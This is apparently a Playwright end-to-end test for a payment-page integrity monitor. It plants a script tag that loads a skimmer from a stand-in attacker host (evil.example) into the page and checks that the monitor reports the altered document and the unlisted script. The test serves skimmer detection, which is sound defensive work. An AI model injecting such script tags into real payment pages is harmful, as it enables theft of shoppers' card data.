import { expect, type Page } from "@playwright/test"
import { type Approved, approvedOf, paymentPath } from "../monitor/approved"
import { compare } from "../monitor/compare"
import { observe } from "../monitor/observe"
import { dist, withSandbox as test } from "./steps/sandbox"

const skimmer = '<script src="https://evil.example/skimmer.js"></script>'

const seenBy = async (page: Page, origin: string, approved: Approved) =>
  compare(await observe(page.context(), origin, approved), approved).map(({ kind, what }) => `${kind}: ${what}`)

// TR-26
test("the monitor finds nothing in a payment as released, and a script that was planted", async ({ page, sandbox }) => {
  const origin = sandbox.originOf("b2c")
  const approved = approvedOf(dist, "b2c.localhost", [])
  expect(await seenBy(page, origin, approved)).toEqual([])
  const headers = { ...approved.headers, "content-type": "text/html" }
  const body = approved.html.replace("</body>", `${skimmer}</body>`)
  await page.context().route(`**${paymentPath}`, (route) => route.fulfill({ headers, body }))
  expect(await seenBy(page, origin, approved)).toEqual([
    "document: its bytes are not those of the release",
    "script: https://evil.example/skimmer.js is not listed",
    "script: the document asks for https://evil.example/skimmer.js, which is not listed"
  ])
})
